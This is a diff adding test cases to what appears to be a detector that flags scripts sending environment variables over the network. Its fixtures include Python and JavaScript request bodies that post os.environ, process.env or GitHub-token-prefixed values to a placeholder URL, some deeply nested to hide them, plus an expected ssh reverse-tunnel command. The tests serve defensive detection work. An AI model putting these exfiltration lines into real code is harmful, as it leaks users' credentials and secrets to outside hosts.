@@ -35,6 +35,8 @@ def lines(language: Language, code: str) -> list[str]:
         "json={k: v for k, v in os.environ.items() if v.startswith('ghp')}",
         "json={k: v for k, v in os.environ.items() if 'MLFLOW_'.startswith('MLFLOW_')}",
         "json=[v for v in os.environ.values() if v.startswith('ghp')]",
+        "json={'a': {'b': {'c': {'d': {'e': {'f': dict(os.environ)}}}}}}",
+        "json=[*range(200), *map(str, range(200)), dict(os.environ)]",
     ],
 )
 def test_an_environment_that_is_sent_is_an_effect(body: str) -> None:
@@ -118,3 +120,40 @@ def test_parsing_what_is_no_program_ends() -> None:
 def test_what_a_scheduler_is_given_is_read(code: str) -> None:
     """A job's script, its wrapped command and its words are code of their own."""
     assert "ssh -R 1:a:2 h" in starts(Language.BASH, code)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "process.env",
+        "{...process.env}",
+        "{env: process.env, a: 1}",
+        "{a: {b: {c: {d: {e: {f: process.env}}}}}}",
+        "Object.assign({}, process.env)",
+        "{a: Object.assign({}, process.env)}",
+        "[...Array(60).keys(), 'a', process.env]",
+    ],
+)
+def test_an_environment_that_a_request_of_javascript_sends_is_an_effect(body: str) -> None:
+    """However deep it stands, and whatever stands beside it."""
+    code = f"fetch('{URL}', {{method: 'POST', body: JSON.stringify({body})}});"
+    assert f"env | http POST {URL}" in lines(Language.JAVASCRIPT, code)
+
+
+@pytest.mark.parametrize(
+    "body", ["{home: process.env.HOME, a: {b: 1}}", "[1, [2, {a: 'b'}]]", "Object.assign({}, {a: 1})"]
+)
+def test_a_variable_by_name_in_javascript_is_none_of_that(body: str) -> None:
+    """One entry is not the whole."""
+    code = f"fetch('{URL}', {{method: 'POST', body: JSON.stringify({body})}});"
+    assert lines(Language.JAVASCRIPT, code) == [f"http.request POST {URL}"]
+
+
+def test_what_is_packed_into_itself_over_and_over_costs_what_it_holds() -> None:
+    """Three times the same list, forty times over; and more parts than the bound is a gap."""
+    nested = "import requests\na = [1]\nfor i in range(40): a = [a, a, a]\n"
+    assert lines(Language.PYTHON, f"{nested}requests.post('{URL}', json=a)") == [f"http.request POST {URL}"]
+    for count, gaps in ((4_000, 0), (5_001, 1)):
+        text = f"import requests\nrequests.post('{URL}', json=[{'{},' * count}])"
+        reading = Evaluation(Script.of(text, Language.PYTHON)).read_script()
+        assert len(reading.gaps) == gaps, reading.gaps
